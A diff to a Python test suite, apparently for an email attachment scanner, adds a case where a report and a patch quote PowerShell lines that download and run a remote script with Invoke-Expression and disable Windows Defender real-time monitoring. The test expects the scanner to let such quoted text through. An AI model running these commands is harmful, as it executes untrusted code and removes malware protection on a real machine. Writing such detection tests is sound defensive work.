@@ -673,6 +673,21 @@ Get-ChildItem $Folder -Filter *.jpg | ForEach-Object {
 
 
 @case
+def script_patch_control():
+    """A patch and a report that quote what bad scripts do."""
+    text = (b"$w = New-Object System.Net.WebClient\r\nInvoke-Expression $w."
+            b"DownloadString('http://files.example.com/a.ps1')\r\nSet-MpPrefe"
+            b"rence -DisableRealtimeMonitoring $true\r\n")
+    return (base.mail("Findings", base.multipart(
+        "mixed", base.text_part("Attached."),
+        base.file_part("report.txt", text, "text/plain"),
+        base.file_part("fix.patch", b"--- a/x.ps1\n+++ b/x.ps1\n+" + text,
+                       "text/x-patch"))), dict(
+        verdict="clean", action="allow", absent=[
+            "SCRIPT_DOWNLOADS_AND_RUNS", "SCRIPT_DISABLES_PROTECTION"]))
+
+
+@case
 def script_source_control():
     """An installation script for developers opens in an editor."""
     return (with_file("install.sh", b"#!/bin/sh\nset -e\ncurl -fsSL "
